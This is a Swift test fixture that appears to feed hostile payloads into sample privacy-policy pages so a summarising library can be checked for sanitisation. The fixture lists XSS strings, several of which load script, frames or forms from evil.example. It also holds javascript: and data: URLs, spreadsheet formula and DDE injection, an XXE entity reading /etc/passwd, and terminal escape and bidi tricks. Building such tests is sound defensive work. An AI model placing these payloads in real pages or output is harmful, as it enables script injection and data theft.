import PlainTerms
import Testing

/// Documents by someone who means ill: every payload in every place of a page.
enum HostileDocuments {
  /// A word that no output has of its own.
  static let mark = "zqx"

  /// What is tried, each with the mark.
  static let payloads: [(name: String, bytes: [UInt8])] =
    table.map { ($0, Array($1.utf8)) }
    + [("broken UTF-8", [0xC3, 0x28, 0xFF, 0x7A, 0x71, 0x78, 0xED, 0xA0, 0x80, 0xF8, 0xC0, 0xAF])]

  private static let table: [(String, String)] = [
    ("a script", "<script>document.title='zqx'</script>"),
    ("an event handler", "<img src=x onerror=alert('zqx')>"),
    ("the end of the style sheet", "</style><style>*{display:none}</style>zqx"),
    ("the end of the page", "</p></main></body></html><script src=//evil.example/zqx></script>"),
    (
      "the end of a picture",
      "</text></svg><svg onload=alert('zqx')><a xlink:href=\"javascript:1\">"
    ),
    ("a frame", "<iframe src=https://evil.example/zqx></iframe><base href=//evil.example>"),
    ("a form", "<form action=//evil.example><input autofocus onfocus=alert('zqx')>"),
    ("a page elsewhere", "<meta http-equiv=refresh content='0;url=//evil.example/zqx'>"),
    ("the end of an attribute", "\" onmouseover=\"alert('zqx')\" style='x"),
    ("a script as a link", "javascript:alert('zqx')//https://evil.example"),
    ("a script in disguise", " jAvA\tscript&colon;alert('zqx')"),
    ("a page as a link", "data:text/html,<script>alert('zqx')</script>"),
    ("a file as a link", "file:///etc/passwd?zqx"),
    (
      "Markdown links",
      "[zqx](javascript:alert(1)) ![zqx](https://evil.example/x.png) <javascript:zqx>"
    ),
    ("a Markdown reference", "\n\n[zqx]: javascript:alert(1) \"x\"\n\n[zqx] [^zqx]: x"),
    ("Markdown blocks", "\n\n# zqx\n\n> zqx\n\n---\n\n```\nzqx\n\n| a | b |\n|---|---|\n| zqx |"),
    ("Markdown marks", "**zqx** __zqx__ ~~zqx~~ `zqx` <b>zqx</b> &lt;i&gt; \\<u> ``zqx"),
    ("cells of a table", "a | b || zqx |\\| c"),
    (
      "commands to a terminal",
      "\u{1B}[31mzqx\u{1B}]0;zqx\u{7}\u{1B}]8;;https://evil.example\u{1B}\\\u{9B}2J\u{8}"
    ),
    ("turned text", "\u{202E}zqx\u{2066}abc\u{200F}\u{061C}\u{202D}"),
    ("hidden text", "z\u{200B}q\u{2060}x zqx\u{FEFF}\u{AD}\u{E0041}\u{E0042}\u{E0001}\u{180E}"),
    ("formulas", "=HYPERLINK(\"https://evil.example/zqx\",\"x\")"),
    ("more formulas", "\u{202E}@SUM(1+9)*cmd|' /C calc'!A0 zqx,+1,-1,\"=1\n=1"),
    ("XML", "]]><zqx/><!ENTITY zqx SYSTEM \"file:///etc/passwd\">&zqx;<?xml version=\"1.0\"?>"),
    ("DOT", "\"]; zqx [shape=box, URL=\"javascript:alert(1)\"]; // \\N\\G \\"),
    ("JSON", "\",\"zqx\":\"\\u0000\"},{\"id\":\"c1\"} \\\" \\ud800"),
    ("fake clauses", "<p id=\"c1\">zqx [c1] [c2](#c3) <a href=\"#c1\" id=\"summary\">c17</a>"),
    (
      "numbers without end",
      "99999999999999999999999999 zqx years, $1e309, 0.0000001 days, -1 months, NaN"
    ),
    ("characters that are none", "\u{FFFE}\u{FFFF}\u{1FFFF}zqx\u{0}\u{7F}\u{85}\u{2028}\u{2029}"),
  ]

  /// A place in a page.
  struct Place: Sendable, CustomTestStringConvertible {
    var name: String
    var format: InputFormat
    /// Whether the payload is text there, or markup of the page.
    var isEscaped: Bool
    /// The page, with `@@` where the payload goes.
    var page: String

    var testDescription: String { name }
  }

  static let places: [Place] = [
    Place(
      name: "title and headings", format: .html, isEscaped: true,
      page: """
        <title>@@ Privacy Policy</title><h1>@@ Privacy Policy</h1>\(body)<h2>@@</h2>\(body)
        """),
    Place(
      name: "sentences that are quoted", format: .html, isEscaped: true,
      page: """
        <h1>Firm Privacy Policy</h1><p>We sell your personal information to @@ for advertising.</p>
        <p>We keep @@ for 90 days.</p><p>@@ You waive any right to sue Firm @@ in court.</p>\(body)
        """),
    Place(
      name: "names of recipients", format: .html, isEscaped: true,
      page: """
        <h1>Firm Privacy Policy</h1><p>Firm (“@@”, “we”) shares your email address with @@, Inc. and @@ LLC.</p>
        <table><tr><th>Company</th><th>Purpose @@</th></tr><tr><td>@@</td><td>Payments</td></tr>
        <tr><td>Acme @@ GmbH</td><td>Analytics, @@</td></tr></table>\(body)
        """),
    Place(
      name: "targets of links", format: .html, isEscaped: true,
      page: """
        <base href="@@"><h1>Firm Privacy Policy</h1><p>To opt out of the sale of your data visit
        <a href="@@">this page</a>, <a href="https://firm.example/@@">@@</a> or
        <a href="//@@">there</a>; to delete your account write to <a href="mailto:@@">@@</a>.</p>
        <p>We share data with <a href="@@">Acme, Inc.</a> for analytics.</p>\(body)
        """),
    Place(
      name: "attributes", format: .html, isEscaped: true,
      page: """
        <html lang="@@"><h1 id="@@" class="@@">Firm Privacy Policy</h1><p id="@@">We sell your data.</p>
        <img alt="@@" src="@@"><ol type="@@" start="@@"><li value="@@">We keep your data for 2 years.</ol>\(body)
        """),
    Place(
      name: "markup", format: .html, isEscaped: false,
      page: """
        <h1>Firm @@ Privacy Policy</h1><p>We sell your data to @@ for advertising.</p>@@\(body)
        <p>We keep @@ for 90 days.</p><a href=@@>opt out</a><!-- @@ -->
        """),
    Place(
      name: "Markdown", format: .markdown, isEscaped: false,
      page: """
        # Firm @@ Privacy Policy

        We sell your personal information to @@ for advertising. [Opt out](@@) or <@@> or write to @@.

        - @@, Inc. gets your email address for marketing.
        - We keep @@ for 90 days.

        | Company | Purpose |
        |---|---|
        | @@ | Ads @@ |

        \(text)
        """),
    Place(
      name: "plain text", format: .text, isEscaped: false,
      page: """
        FIRM @@ PRIVACY POLICY

        We sell your personal information to @@ for advertising. Visit https://firm.example/@@ to opt out.

        1. @@

        (a) We keep @@ for 90 days.

        \(text)
        """),
  ]

  private static let text = """
    We collect your email address and your precise location when you use the service. We share them
    with Stripe, Inc. for payments, and with partners for targeted advertising. We keep your account
    data for two years after you close your account. You may ask us to delete your data: write to
    privacy@firm.example. We may change this policy at any time without notice. These terms are
    governed by the laws of Norway. You must be 16 years old.
    """

  private static let body = "<p>" + text + "</p>"

  /// The page with the payload in that place.
  static func page(_ payload: [UInt8], in place: Place) -> [UInt8] {
    let shown = place.isEscaped ? escaped(payload) : payload
    var page: [UInt8] = []
    for (index, part) in place.page.split(separator: "@@", omittingEmptySubsequences: false)
      .enumerated()
    {
      if index > 0 { page += shown }
      page += part.utf8
    }
    return page
  }

  private static func escaped(_ bytes: [UInt8]) -> [UInt8] {
    bytes.flatMap { byte -> [UInt8] in
      switch byte {
      case UInt8(ascii: "&"): Array("&amp;".utf8)
      case UInt8(ascii: "<"): Array("&lt;".utf8)
      case UInt8(ascii: "\""): Array("&quot;".utf8)
      // Controls and the like as references, which may name them.
      case 0..<0x20: Array("&#\(byte);".utf8)
      default: [byte]
      }
    }
  }
}
